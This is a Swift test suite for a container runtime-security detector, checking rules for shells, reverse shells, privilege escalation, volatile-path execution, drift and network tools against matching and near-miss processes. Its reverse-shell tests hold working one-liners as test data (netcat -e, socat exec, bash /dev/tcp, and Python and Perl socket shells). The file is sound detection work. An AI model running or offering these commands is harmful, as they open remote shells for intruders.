import Testing
import VigilDetect
import VigilKernel

@testable import VigilNode

/// The rules that look at one process as it starts, each on its case and on the near misses that must
/// stay quiet. Processes are built as the tracker holds them; the kernel's two facts (socket kinds,
/// the overlay upper layer) are answered by the test.
@Suite("Process rules: what fires on an exec and what does not")
struct ProcessRulesTests {
    // MARK: shell_in_container

    @Test(
        "a shell is recognised by comm, by argv[0], and as busybox's applet",
        arguments: [
            ("bash", "/bin/bash", ["bash"]),
            ("dash", "/usr/bin/dash", ["/bin/sh", "-c", "echo hi"]),
            ("zsh", "/usr/bin/zsh", ["zsh"]),
            ("ash", "/bin/busybox", ["ash"]),
            ("sh", "/bin/busybox", ["sh", "-c", "id"]),
            ("fish", "/usr/bin/fish", ["fish"]),
            ("tcsh", "/bin/tcsh", ["tcsh"]),
            ("mksh", "/bin/mksh", ["mksh"]),
            // comm renamed (prctl), argv[0] still says what it is.
            ("worker", "/bin/busybox", ["/bin/sh", "-c", "loop"]),
            ("worker", "/usr/bin/ksh93", ["ksh"]),
        ])
    func shellIsRecognised(comm: String, exe: String, argv: [String]) throws {
        let alerts = Scenario.alerts(Scenario.process(comm: comm, exe: exe, argv: argv)).of(.shellInContainer)
        try #require(alerts.count == 1, "\(comm) \(exe) \(argv): \(alerts.map(\.output))")
        #expect(alerts[0].priority == .notice)
        #expect(alerts[0].field("vigil.shell.interactive") == .bool(false))
        #expect(alerts[0].container?.id == Scenario.containerID)
        #expect(alerts[0].process?.pid == 4242)
    }

    @Test("a login shell (argv[0] \"-sh\", \"-bash\") is a shell")
    func loginShell() {
        for (comm, argv0) in [("sh", "-sh"), ("bash", "-bash"), ("login-wrapper", "-sh")] {
            let alerts = Scenario.alerts(Scenario.process(comm: comm, exe: "/bin/busybox", argv: [argv0])).of(
                .shellInContainer)
            #expect(alerts.count == 1, "comm \(comm) argv[0] \(argv0)")
        }
    }

    @Test(
        "busybox run by its own name as a shell (`busybox sh -c ...`, comm busybox) is a shell",
        .bug(id: "rules-1", "names() looks at comm and argv[0] only; `busybox sh` has both \"busybox\""))
    func busyboxByItsOwnName() {
        let process = Scenario.process(
            comm: "busybox", exe: "/bin/busybox", argv: ["/bin/busybox", "sh", "-c", "id"])
        #expect(Scenario.alerts(process).of(.shellInContainer).count == 1)
    }

    @Test(
        "names that merely look like shells are not shells",
        arguments: [
            ("shuf", ["shuf"]), ("sha256sum", ["sha256sum", "x"]), ("showkey", ["showkey"]), ("shred", ["shred", "f"]),
            ("bashbug", ["bashbug"]), ("ssh", ["ssh", "host"]), ("sshd", ["/usr/sbin/sshd", "-D"]),
            ("python3", ["python3", "app.py"]), ("nginx", ["nginx", "-g", "daemon off;"]), ("fisher", ["fisher"]),
        ])
    func nearMissShellNames(comm: String, argv: [String]) {
        let process = Scenario.process(comm: comm, exe: "/usr/bin/\(comm)", argv: argv)
        #expect(Scenario.alerts(process).of(.shellInContainer).isEmpty, "\(comm) was taken for a shell")
    }

    @Test("an interactive shell (a tty, or a terminal on stdin) is a Warning; a scripted one a Notice")
    func interactiveAndScripted() throws {
        let withTTY = Scenario.busybox(["sh"], tty: 34816, stdio: ["/dev/pts/0", "/dev/pts/0", "/dev/pts/0"])
        let ptsStdinOnly = Scenario.busybox(["sh"], tty: 0, stdio: ["/dev/pts/3", "pipe:[5]", "pipe:[6]"])
        let ttyDevice = Scenario.busybox(["sh"], tty: 0, stdio: ["/dev/tty1", "/dev/tty1", "/dev/tty1"])
        let scripted = Scenario.busybox(["sh", "-c", "sleep 1"], tty: 0, stdio: ["/dev/null", "pipe:[5]", "pipe:[6]"])
        // A terminal on stdout only (output to a console) is not an interactive session.
        let ttyOutputOnly = Scenario.busybox(
            ["sh", "-c", "date"], tty: 0, stdio: ["/dev/null", "/dev/pts/1", "/dev/pts/1"])

        for (process, label) in [(withTTY, "tty"), (ptsStdinOnly, "pts on stdin"), (ttyDevice, "/dev/tty1")] {
            let alert = try #require(Scenario.alerts(process).of(.shellInContainer).first, "\(label)")
            #expect(alert.priority == .warning, "\(label)")
            #expect(alert.field("vigil.shell.interactive") == .bool(true), "\(label)")
            #expect(alert.output.hasPrefix("Interactive shell"), "\(label): \(alert.output)")
        }
        for (process, label) in [(scripted, "scripted"), (ttyOutputOnly, "tty on stdout only")] {
            let alert = try #require(Scenario.alerts(process).of(.shellInContainer).first, "\(label)")
            #expect(alert.priority == .notice, "\(label)")
            #expect(alert.field("vigil.shell.interactive") == .bool(false), "\(label)")
        }
    }

    @Test("the container's own init (namespace pid 1) is how it was built to start: no shell alert")
    func containerInitIsNotAlerted() {
        let initShell = Scenario.busybox(["sh", "-c", "while :; do sleep 1; done"], namespacePid: 1)
        #expect(Scenario.alerts(initShell, ancestors: ["containerd-shim", "containerd"]).isEmpty)
        // The next process in the namespace is not the init.
        let second = Scenario.busybox(["sh", "-c", "while :; do sleep 1; done"], namespacePid: 2)
        #expect(Scenario.alerts(second).of(.shellInContainer).count == 1)
    }

    @Test("the shell alert names the container, the workload, the command and the parent chain")
    func shellAlertExplainsItself() throws {
        let process = Scenario.busybox(["sh", "-c", "cat /etc/shadow"], uid: 1000)
        let alert = try #require(Scenario.alerts(process, ancestors: ["sh", "runc", "containerd-shim"]).first)
        #expect(alert.output.contains("web"))
        #expect(alert.output.contains(Scenario.containerID.prefix(12)))
        #expect(alert.output.contains("image:nginx:1.25"))
        #expect(alert.output.contains("sh -c cat /etc/shadow"))
        #expect(alert.output.contains("sh ← runc ← containerd-shim"))
        #expect(alert.output.contains("uid 1000"))
        #expect(alert.ancestors == ["sh", "runc", "containerd-shim"])
        #expect(alert.time == Scenario.time)
    }

    @Test("a process that exec'd but could not be read (unread) raises nothing: its facts are its parent's")
    func unreadProcessRaisesNothing() {
        var process = Scenario.busybox(["sh"])
        process.unread = true
        #expect(Scenario.alerts(process).isEmpty)
    }

    // MARK: reverse_shell by socket

    @Test("a shell with an internet socket on stdin, stdout or stderr is a reverse shell (Critical)")
    func reverseShellBySocket() throws {
        for index in 0..<3 {
            var stdio = ["/dev/null", "pipe:[1]", "pipe:[2]"]
            stdio[index] = "socket:[98765]"
            let process = Scenario.busybox(["sh"], stdio: stdio)
            let alerts = Scenario.alerts(process, facts: Scenario.facts(socket: .internet("10.0.0.5:4444"))).of(
                .reverseShell)
            let alert = try #require(alerts.first, "socket on fd \(index)")
            #expect(alerts.count == 1)
            #expect(alert.priority == .critical)
            #expect(alert.field("fd.num") == .int(Int64(index)))
            #expect(alert.field("fd.name") == .string("10.0.0.5:4444"))
            #expect(alert.output.contains("10.0.0.5:4444"))
        }
    }

    @Test("all three streams on the socket give one reverse_shell alert, not three")
    func oneAlertForThreeStreams() {
        let process = Scenario.busybox(["sh"], stdio: ["socket:[7]", "socket:[7]", "socket:[7]"])
        let alerts = Scenario.alerts(process, facts: Scenario.facts(socket: .internet("10.0.0.5:4444"))).of(
            .reverseShell)
        #expect(alerts.count == 1)
        #expect(alerts.first?.field("fd.num") == .int(0))
    }

    @Test("the socket's kind is asked about the process's own pid and the socket's inode")
    func socketQuestionCarriesPidAndInode() {
        var asked: [(Int32, UInt64)] = []
        let facts = ProcessRules.Facts(
            socketKind: { pid, inode in
                asked.append((pid, inode)); return .unix
            }, inUpperLayer: { _, _, _ in false })
        let process = Scenario.busybox(["sh"], stdio: ["socket:[31337]", "pipe:[1]", "pipe:[2]"])
        _ = Scenario.alerts(process, facts: facts)
        #expect(asked.count == 1)
        #expect(asked.first?.0 == 4242)
        #expect(asked.first?.1 == 31337)
    }

    @Test("a socket that cannot be told apart (the process is gone) counts as a reverse shell")
    func unknownSocketIsSuspicious() throws {
        let process = Scenario.busybox(["sh"], stdio: ["socket:[42]", "socket:[42]", "socket:[42]"])
        let alert = try #require(
            Scenario.alerts(process, facts: Scenario.facts(socket: .unknown)).of(.reverseShell).first)
        #expect(alert.field("fd.name") == .string("socket:[42]"))
    }

    @Test("a Unix socket on a shell's stdio (socket activation, docker attach) is not a reverse shell")
    func unixSocketIsNot() {
        let process = Scenario.busybox(["sh"], stdio: ["socket:[42]", "socket:[42]", "socket:[42]"])
        #expect(Scenario.alerts(process, facts: Scenario.facts(socket: .unix)).of(.reverseShell).isEmpty)
    }

    @Test("an interpreter with a network socket on stdio is a reverse shell; a server that is neither is not")
    func interpretersAndServers() {
        let facts = Scenario.facts(socket: .internet("192.0.2.7:443"))
        for (comm, argv) in [
            ("python3", ["python3"]), ("python3.11", ["python3.11"]), ("perl", ["perl"]), ("ruby", ["ruby"]),
            ("node", ["node"]),
        ] {
            let process = Scenario.process(
                comm: comm, exe: "/usr/bin/\(comm)", argv: argv, stdio: ["socket:[9]", "socket:[9]", "socket:[9]"])
            #expect(Scenario.alerts(process, facts: facts).of(.reverseShell).count == 1, "\(comm)")
        }
        // inetd-style services have their connection on stdio by design.
        for (comm, argv) in [("nginx", ["nginx"]), ("in.tftpd", ["in.tftpd"]), ("pythonista", ["pythonista"])] {
            let process = Scenario.process(
                comm: comm, exe: "/usr/sbin/\(comm)", argv: argv, stdio: ["socket:[9]", "socket:[9]", "socket:[9]"])
            #expect(Scenario.alerts(process, facts: facts).of(.reverseShell).isEmpty, "\(comm)")
        }
    }

    // MARK: reverse_shell by command line

    @Test(
        "command lines that wire a shell to the network are reverse shells",
        arguments: [
            ("nc", "/bin/busybox", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]),
            ("nc", "/bin/busybox", ["nc", "-e/bin/sh", "10.0.0.1", "4444"]),
            ("nc.traditional", "/bin/nc.traditional", ["nc", "-c", "sh", "10.0.0.1", "4444"]),
            ("ncat", "/usr/bin/ncat", ["ncat", "--sh-exec", "bash -i", "10.0.0.1", "4444"]),
            ("ncat", "/usr/bin/ncat", ["ncat", "--exec", "/bin/bash", "10.0.0.1", "4444"]),
            ("socat", "/usr/bin/socat", ["socat", "exec:/bin/sh,pty,stderr", "tcp:10.0.0.1:4444"]),
            ("socat", "/usr/bin/socat", ["socat", "TCP:10.0.0.1:4444", "EXEC:bash"]),
            ("socat", "/usr/bin/socat", ["socat", "tcp-connect:10.0.0.1:4444", "SYSTEM:sh"]),
            ("bash", "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
            ("sh", "/bin/busybox", ["sh", "-c", "exec 5<>/dev/udp/10.0.0.1/53"]),
            (
                "python3", "/usr/bin/python3",
                [
                    "python3", "-c",
                    "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
                ]
            ),
            (
                "perl", "/usr/bin/perl",
                [
                    "perl", "-e",
                    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
                ]
            ),
        ])
    func reverseShellCommandLines(comm: String, exe: String, argv: [String]) throws {
        let alerts = Scenario.alerts(Scenario.process(comm: comm, exe: exe, argv: argv)).of(.reverseShell)
        let alert = try #require(alerts.first, "\(argv.joined(separator: " "))")
        #expect(alerts.count == 1)
        #expect(alert.priority == .critical)
        if case .string(let pattern)? = alert.field("vigil.pattern") {
            #expect(!pattern.isEmpty)
        } else {
            Issue.record("no vigil.pattern on \(alert.output)")
        }
    }

    @Test(
        "network and scripting command lines that start no shell are not reverse shells",
        arguments: [
            ("nc", "/bin/busybox", ["nc", "-l", "-p", "8080"]),
            ("nc", "/bin/busybox", ["nc", "-z", "-w", "1", "db", "5432"]),
            ("ncat", "/usr/bin/ncat", ["ncat", "-v", "db", "5432"]),
            ("socat", "/usr/bin/socat", ["socat", "tcp-listen:80,fork", "tcp:backend:8080"]),
            ("python3", "/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"]),
            ("python3", "/usr/bin/python3", ["python3", "-m", "http.server", "8000"]),
            ("perl", "/usr/bin/perl", ["perl", "-e", "print 1"]),
            ("grep", "/bin/busybox", ["grep", "-e", "/bin/sh", "/etc/passwd"]),
            ("sh", "/bin/busybox", ["sh", "-c", "wget -q -O- http://127.0.0.1:8080/"]),
        ])
    func nearMissCommandLines(comm: String, exe: String, argv: [String]) {
        let alerts = Scenario.alerts(Scenario.process(comm: comm, exe: exe, argv: argv)).of(.reverseShell)
        #expect(alerts.isEmpty, "\(argv.joined(separator: " ")): \(alerts.map(\.output))")
    }

    @Test(
        "busybox's nc run by its own name (`busybox nc ... -e /bin/sh`) is a reverse shell",
        .bug(id: "rules-1", "names() ignores argv[1] after busybox"))
    func busyboxNcByItsOwnName() {
        let process = Scenario.process(
            comm: "busybox", exe: "/bin/busybox", argv: ["busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"])
        let alerts = Scenario.alerts(process)
        #expect(alerts.of(.reverseShell).count == 1)
        #expect(alerts.of(.networkToolInContainer).count == 1)
    }

    // MARK: privilege_escalation

    @Test("a setuid-root program run by uid 1000 (uid 1000, euid 0) is a privilege escalation")
    func setuidRoot() throws {
        let process = Scenario.process(
            comm: "ping", exe: "/bin/ping", argv: ["ping", "-c", "1", "127.0.0.1"], uid: 1000, euid: 0)
        let alert = try #require(Scenario.alerts(process).of(.privilegeEscalation).first)
        #expect(alert.priority == .critical)
        #expect(alert.field("vigil.escalation") == .string("setuid"))
        #expect(alert.process?.euid == 0)
        #expect(alert.output.contains("uid 1000"))
    }

    @Test("a setuid program that drops its privileges at once is still seen, from the file's mode bits")
    func setuidBitsOnFile() throws {
        var process = Scenario.process(comm: "busybox", exe: "/tmp/busybox", argv: ["/tmp/busybox", "sleep", "2"], uid: 1000, euid: 1000)
        process.exeFile = FileAttributes(mode: 0o104755, owner: 0, group: 0)
        let alert = try #require(Scenario.alerts(process).of(.privilegeEscalation).first)
        #expect(alert.field("vigil.escalation") == .string("setuid"))
        #expect(alert.output.contains("setuid root"))
        var plain = process
        plain.exeFile = FileAttributes(mode: 0o100755, owner: 0, group: 0)
        #expect(Scenario.alerts(plain).of(.privilegeEscalation).isEmpty)
    }

    @Test("root running as root, and a user running as itself, gain nothing")
    func noEscalation() {
        let root = Scenario.process(comm: "id", exe: "/usr/bin/id", argv: ["id"], uid: 0, euid: 0)
        let user = Scenario.process(comm: "id", exe: "/usr/bin/id", argv: ["id"], uid: 1000, euid: 1000)
        let dropped = Scenario.process(comm: "id", exe: "/usr/bin/id", argv: ["id"], uid: 0, euid: 1000)
        for process in [root, user, dropped] {
            #expect(
                Scenario.alerts(process).of(.privilegeEscalation).isEmpty, "uid \(process.uid) euid \(process.euid)")
        }
    }

    @Test("a non-root process with effective capabilities beyond its parent's (file capabilities) is an escalation")
    func capabilitiesGained() throws {
        let netRaw = CapabilitySet(rawValue: 1 << 13)
        let netAdmin = CapabilitySet(rawValue: 1 << 12)
        let parent = Scenario.process(
            pid: 4200, comm: "sh", exe: "/bin/busybox", argv: ["sh"], uid: 1000, effective: .empty)
        let child = Scenario.process(
            comm: "tcpdump", exe: "/usr/bin/tcpdump", argv: ["tcpdump"], uid: 1000, effective: netRaw.union(netAdmin))
        let alert = try #require(Scenario.alerts(child, parent: parent).of(.privilegeEscalation).first)
        #expect(alert.field("vigil.escalation") == .string("capabilities"))
        #expect(alert.field("vigil.capabilities_gained") == .strings(["CAP_NET_ADMIN", "CAP_NET_RAW"]))
        #expect(alert.output.contains("CAP_NET_RAW"))
    }

    @Test("capabilities no more than the parent's, a root child, or a parent with CAP_SYS_ADMIN: no alert")
    func capabilitiesNearMisses() {
        let netRaw = CapabilitySet(rawValue: 1 << 13)
        let sysAdmin = CapabilitySet(rawValue: 1 << 21)
        let parentWithNetRaw = Scenario.process(
            pid: 4200, comm: "sh", exe: "/bin/sh", argv: ["sh"], uid: 1000, effective: netRaw)
        let sameCaps = Scenario.process(comm: "ping", exe: "/bin/ping", argv: ["ping"], uid: 1000, effective: netRaw)
        let fewer = Scenario.process(comm: "ping", exe: "/bin/ping", argv: ["ping"], uid: 1000, effective: .empty)
        #expect(Scenario.alerts(sameCaps, parent: parentWithNetRaw).of(.privilegeEscalation).isEmpty)
        #expect(Scenario.alerts(fewer, parent: parentWithNetRaw).of(.privilegeEscalation).isEmpty)
        // Root's children get root's capabilities back after a setuid(0) of its own: not at exec.
        let rootParent = Scenario.process(
            pid: 4200, comm: "sh", exe: "/bin/sh", argv: ["sh"], uid: 0, effective: .empty)
        let rootChild = Scenario.process(
            comm: "id", exe: "/bin/id", argv: ["id"], uid: 0, effective: Scenario.dockerDefault)
        #expect(Scenario.alerts(rootChild, parent: rootParent).of(.privilegeEscalation).isEmpty)
        let adminParent = Scenario.process(
            pid: 4200, comm: "sh", exe: "/bin/sh", argv: ["sh"], uid: 1000, effective: sysAdmin)
        let withNetRaw = Scenario.process(
            comm: "ping", exe: "/bin/ping", argv: ["ping"], uid: 1000, effective: sysAdmin.union(netRaw))
        #expect(Scenario.alerts(withNetRaw, parent: adminParent).of(.privilegeEscalation).isEmpty)
        // Without a known parent there is nothing to compare with.
        #expect(Scenario.alerts(sameCaps, parent: nil).of(.privilegeEscalation).isEmpty)
    }

    @Test("a running process whose effective uid becomes 0 from non-zero is an escalation (inspectCredentials)")
    func uidChangeToRoot() throws {
        let process = Scenario.process(comm: "exploit", exe: "/app/exploit", argv: ["/app/exploit"], uid: 1000, euid: 0)
        let alerts = ProcessRules.inspectCredentials(
            Scenario.credentialsChanged(process, previousEUID: 1000), configuration: DetectionConfiguration())
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.rule == .privilegeEscalation)
        #expect(alert.priority == .critical)
        #expect(alert.field("vigil.escalation") == .string("uid"))
        #expect(alert.field("vigil.previous_euid") == .int(1000))
        #expect(alert.output.contains("1000 → 0"))
    }

    @Test("uid changes that are not a gain of root raise nothing")
    func uidChangesThatAreNotRoot() {
        let configuration = DetectionConfiguration()
        let toRootFromRoot = Scenario.process(comm: "x", exe: "/x", argv: ["x"], uid: 0, euid: 0)
        let toUser = Scenario.process(comm: "x", exe: "/x", argv: ["x"], uid: 1001, euid: 1001)
        #expect(
            ProcessRules.inspectCredentials(
                Scenario.credentialsChanged(toRootFromRoot, previousEUID: 0), configuration: configuration
            ).isEmpty)
        #expect(
            ProcessRules.inspectCredentials(
                Scenario.credentialsChanged(toUser, previousEUID: 1000), configuration: configuration
            ).isEmpty)
        #expect(
            ProcessRules.inspectCredentials(
                Scenario.credentialsChanged(toRootFromRoot, previousEUID: nil), configuration: configuration
            ).isEmpty)
        // Root dropping to a user and back (seteuid) is not a gain either.
        let backToRoot = Scenario.process(comm: "x", exe: "/x", argv: ["x"], uid: 0, euid: 0)
        #expect(
            ProcessRules.inspectCredentials(
                Scenario.credentialsChanged(backToRoot, previousEUID: 0), configuration: configuration
            ).isEmpty)
    }

    @Test("inspectCredentials honours a disabled rule, exceptions and a priority override")
    func credentialsConfiguration() {
        let process = Scenario.process(comm: "exploit", exe: "/app/exploit", argv: ["/app/exploit"], uid: 1000, euid: 0)
        let event = Scenario.credentialsChanged(process, previousEUID: 1000, ancestors: ["crond"])
        #expect(
            ProcessRules.inspectCredentials(
                event, configuration: Scenario.configuration(.privilegeEscalation) { $0.enabled = false }
            ).isEmpty)
        #expect(
            ProcessRules.inspectCredentials(
                event, configuration: Scenario.configuration(.privilegeEscalation) { $0.exceptParents = ["crond"] }
            ).isEmpty)
        #expect(
            ProcessRules.inspectCredentials(
                event, configuration: Scenario.configuration(.privilegeEscalation) { $0.exceptExes = ["/app/*"] }
            ).isEmpty)
        let lowered = ProcessRules.inspectCredentials(
            event, configuration: Scenario.configuration(.privilegeEscalation) { $0.priority = .notice })
        #expect(lowered.first?.priority == .notice)
    }

    // MARK: exec_from_volatile_path

    @Test(
        "an executable under /tmp, /var/tmp or /dev/shm is exec_from_volatile_path (Error)",
        arguments: ["/tmp/x", "/var/tmp/.cache/miner", "/dev/shm/payload", "/run/shm/y"])
    func volatileExecutable(path: String) throws {
        let process = Scenario.process(comm: "x", exe: path, argv: [path])
        let alert = try #require(Scenario.alerts(process).of(.execFromVolatilePath).first, "\(path)")
        #expect(alert.priority == .error)
        #expect(alert.output.contains(path))
    }

    @Test("an executable in memory (memfd) is Critical; a deleted one is an Error")
    func memfdAndDeleted() throws {
        let memfd = Scenario.process(comm: "3", exe: "/memfd:payload", deleted: true, argv: ["[kworker/0:1]"])
        let memfdAlert = try #require(Scenario.alerts(memfd).of(.execFromVolatilePath).first)
        #expect(memfdAlert.priority == .critical)
        #expect(memfdAlert.output.contains("memory"))
        let deleted = Scenario.process(comm: "agent", exe: "/usr/local/bin/agent", deleted: true, argv: ["agent"])
        let deletedAlert = try #require(Scenario.alerts(deleted).of(.execFromVolatilePath).first)
        #expect(deletedAlert.priority == .error)
        #expect(deletedAlert.output.contains("deleted"))
    }

    @Test(
        "a script a shell or interpreter runs from a volatile directory is exec_from_volatile_path",
        arguments: [
            ["sh", "/tmp/x.sh"], ["sh", "-x", "/tmp/x.sh"], ["/bin/sh", "/dev/shm/run.sh", "arg"],
            ["bash", "/var/tmp/a"],
        ])
    func volatileScript(argv: [String]) throws {
        let process = Scenario.process(
            comm: String(argv[0].split(separator: "/").last!), exe: "/bin/busybox", argv: argv)
        let alert = try #require(Scenario.alerts(process).of(.execFromVolatilePath).first, "\(argv)")
        #expect(alert.output.contains("script"))
    }

    @Test("interpreters' scripts count too: python3 /tmp/x.py, python3 -u /tmp/x.py")
    func volatileInterpreterScript() {
        for argv in [["python3", "/tmp/x.py"], ["python3", "-u", "/tmp/x.py"]] {
            let process = Scenario.process(comm: "python3", exe: "/usr/bin/python3.11", argv: argv)
            #expect(Scenario.alerts(process).of(.execFromVolatilePath).count == 1, "\(argv)")
        }
    }

    @Test(
        "code text that mentions /tmp is not a script run from /tmp; nor are look-alike directories",
        arguments: [
            ("sh", "/bin/busybox", ["sh", "-c", "/tmp/x.sh"]),
            ("sh", "/bin/busybox", ["sh", "-c", "rm -rf /tmp/cache"]),
            ("python3", "/usr/bin/python3", ["python3", "-c", "open('/tmp/x')"]),
            ("cat", "/bin/busybox", ["cat", "/tmp/x.sh"]),
            ("app", "/tmpdata/app", ["/tmpdata/app"]),
            ("app", "/usr/tmp/app", ["/usr/tmp/app"]),
            ("app", "/opt/tmp/app", ["/opt/tmp/app"]),
        ])
    func volatileNearMisses(comm: String, exe: String, argv: [String]) {
        let process = Scenario.process(comm: comm, exe: exe, argv: argv)
        #expect(Scenario.alerts(process).of(.execFromVolatilePath).isEmpty, "\(argv)")
    }

    @Test(
        "`sh -e /tmp/x.sh` (errexit, not code) runs a script from /tmp",
        .bug(id: "rules-4", "scriptArgument treats -e as inline code for shells too"))
    func shellErrexitScript() {
        let process = Scenario.busybox(["sh", "-e", "/tmp/x.sh"])
        #expect(Scenario.alerts(process).of(.execFromVolatilePath).count == 1)
    }

    // MARK: container_drift

    @Test("an executable in the container's upper layer is container_drift (Error); one from the image is not")
    func drift() throws {
        let added = Scenario.process(comm: "sleep", exe: "/opt/tools/sleep", argv: ["/opt/tools/sleep", "1"])
        let alert = try #require(
            Scenario.alerts(added, facts: Scenario.facts(upper: ["/opt/tools/sleep"])).of(.containerDrift).first)
        #expect(alert.priority == .error)
        #expect(alert.output.contains("/opt/tools/sleep"))
        let fromImage = Scenario.process(comm: "nginx", exe: "/usr/sbin/nginx", argv: ["nginx"])
        #expect(
            Scenario.alerts(fromImage, facts: Scenario.facts(upper: ["/opt/tools/sleep"])).of(.containerDrift).isEmpty)
    }

    @Test(
        "the drift question is asked with the container, the pid and the exe path; memfd and deleted files are not asked"
    )
    func driftQuestion() {
        var asked: [(String, Int32, String)] = []
        let facts = ProcessRules.Facts(
            socketKind: { _, _ in .unknown },
            inUpperLayer: { container, pid, path in
                asked.append((container.id, pid, path))
                return true
            })
        _ = Scenario.alerts(Scenario.process(comm: "sleep", exe: "/opt/sleep", argv: ["sleep"]), facts: facts)
        #expect(asked.count == 1)
        #expect(asked.first?.0 == Scenario.containerID)
        #expect(asked.first?.1 == 4242)
        #expect(asked.first?.2 == "/opt/sleep")
        asked = []
        let memfd = Scenario.process(comm: "x", exe: "/memfd:x", deleted: true, argv: ["x"])
        let deleted = Scenario.process(comm: "x", exe: "/opt/x", deleted: true, argv: ["x"])
        #expect(Scenario.alerts(memfd, facts: facts).of(.containerDrift).isEmpty)
        #expect(Scenario.alerts(deleted, facts: facts).of(.containerDrift).isEmpty)
        #expect(asked.isEmpty)
    }

    // MARK: Suspicious tools

    @Test("sshd in a container is sshd_in_container; the ssh client is not")
    func sshd() {
        let daemon = Scenario.process(comm: "sshd", exe: "/usr/sbin/sshd", argv: ["/usr/sbin/sshd", "-D"])
        #expect(Scenario.alerts(daemon).of(.sshdInContainer).count == 1)
        let client = Scenario.process(comm: "ssh", exe: "/usr/bin/ssh", argv: ["ssh", "db"])
        #expect(Scenario.alerts(client).of(.sshdInContainer).isEmpty)
    }

    @Test(
        "package managers are package_manager_in_container",
        arguments: [
            ("apk", ["apk", "add", "curl"]), ("apt-get", ["apt-get", "install", "-y", "nmap"]),
            ("apt", ["apt", "update"]),
            ("dpkg", ["dpkg", "-i", "x.deb"]), ("yum", ["yum", "install", "gcc"]), ("rpm", ["rpm", "-ivh", "x.rpm"]),
            ("pip", ["pip", "install", "requests"]), ("pip3", ["pip3", "install", "-r", "req.txt"]),
            ("gem", ["gem", "install", "rails"]),
        ])
    func packageManagers(comm: String, argv: [String]) throws {
        let alert = try #require(
            Scenario.alerts(Scenario.process(comm: comm, exe: "/usr/bin/\(comm)", argv: argv)).of(
                .packageManagerInContainer
            ).first, "\(argv)")
        #expect(alert.priority == .warning)
    }

    @Test(
        "language package managers only when they install; look-alike names never",
        arguments: [
            ("pip", ["pip", "list"]), ("pip3", ["pip3", "freeze"]), ("gem", ["gem", "list"]), ("apkg", ["apkg"]),
            ("rpmbuild", ["rpmbuild", "-ba", "x.spec"]), ("aptly", ["aptly"]), ("pipx", ["pipx", "install", "x"]),
        ])
    func packageManagerNearMisses(comm: String, argv: [String]) {
        #expect(
            Scenario.alerts(Scenario.process(comm: comm, exe: "/usr/bin/\(comm)", argv: argv)).of(
                .packageManagerInContainer
            ).isEmpty, "\(argv)")
    }

    @Test(
        "network tools are network_tool_in_container",
        arguments: [
            ("nc", "/bin/busybox", ["nc", "-l", "-p", "4444"]), ("ncat", "/usr/bin/ncat", ["ncat", "db", "5432"]),
            ("socat", "/usr/bin/socat", ["socat", "-", "tcp:db:5432"]),
            ("nmap", "/usr/bin/nmap", ["nmap", "-sS", "10.0.0.0/24"]),
            ("tcpdump", "/usr/sbin/tcpdump", ["tcpdump", "-i", "any"]),
            ("telnet", "/bin/busybox", ["telnet", "127.0.0.1", "25"]),
        ])
    func networkTools(comm: String, exe: String, argv: [String]) throws {
        let alert = try #require(
            Scenario.alerts(Scenario.process(comm: comm, exe: exe, argv: argv)).of(.networkToolInContainer).first)
        #expect(alert.priority == .warning)
        #expect(alert.output.contains("Network tool \(comm)"))
    }

    @Test(
        "ordinary clients and look-alike names are not network tools",
        arguments: [
            ("wget", ["wget", "-q", "-O-", "http://127.0.0.1:8080/"]), ("curl", ["curl", "http://x"]),
            ("ping", ["ping", "-c", "1", "x"]),
            ("ncdu", ["ncdu"]), ("nproc", ["nproc"]), ("netstat", ["netstat", "-ltn"]),
            ("nslookup", ["nslookup", "x"]),
        ])
    func networkToolNearMisses(comm: String, argv: [String]) {
        #expect(
            Scenario.alerts(Scenario.process(comm: comm, exe: "/bin/busybox", argv: argv)).of(.networkToolInContainer)
                .isEmpty, "\(argv)")
    }

    @Test("a quiet workload's processes raise nothing at all")
    func quietProcesses() {
        let processes = [
            Scenario.process(comm: "nginx", exe: "/usr/sbin/nginx", argv: ["nginx", "-g", "daemon off;"]),
            Scenario.busybox(["httpd", "-f", "-p", "8080"]),
            Scenario.busybox(["sleep", "1000"]),
            Scenario.busybox(["wget", "-q", "-O-", "http://127.0.0.1:8080/"]),
            Scenario.process(
                comm: "java", exe: "/usr/lib/jvm/bin/java", argv: ["java", "-jar", "/app/app.jar"], uid: 1000),
        ]
        for process in processes {
            let alerts = Scenario.alerts(process, facts: Scenario.facts(socket: .internet("10.0.0.1:80")))
            #expect(alerts.isEmpty, "\(process.cmdline): \(alerts.map(\.output))")
        }
    }

    // MARK: Configuration

    @Test("exceptions by workload (exact and prefix `*`), by exe, by process name and by parent silence a rule")
    func exceptions() {
        let shell = Scenario.busybox(["sh", "-c", "healthcheck"])
        let parent = ["crond", "containerd-shim"]
        let silenced: [(String, DetectionConfiguration)] = [
            ("workload exact", Scenario.configuration(.shellInContainer) { $0.exceptWorkloads = ["image:nginx:1.25"] }),
            ("workload prefix", Scenario.configuration(.shellInContainer) { $0.exceptWorkloads = ["image:nginx*"] }),
            ("exe", Scenario.configuration(.shellInContainer) { $0.exceptExes = ["/bin/busybox"] }),
            ("exe prefix", Scenario.configuration(.shellInContainer) { $0.exceptExes = ["/bin/*"] }),
            ("name", Scenario.configuration(.shellInContainer) { $0.exceptExes = ["sh"] }),
            ("parent", Scenario.configuration(.shellInContainer) { $0.exceptParents = ["crond"] }),
            ("disabled", Scenario.configuration(.shellInContainer) { $0.enabled = false }),
        ]
        for (label, configuration) in silenced {
            #expect(
                Scenario.alerts(shell, ancestors: parent, configuration: configuration).of(.shellInContainer).isEmpty,
                "\(label)")
        }
        let notSilenced: [(String, DetectionConfiguration)] = [
            (
                "other workload",
                Scenario.configuration(.shellInContainer) { $0.exceptWorkloads = ["image:redis*", "image:nginx"] }
            ),
            (
                "other exe",
                Scenario.configuration(.shellInContainer) { $0.exceptExes = ["/bin/bash", "/bin/busybox2"] }
            ),
            ("grandparent only", Scenario.configuration(.shellInContainer) { $0.exceptParents = ["containerd-shim"] }),
            (
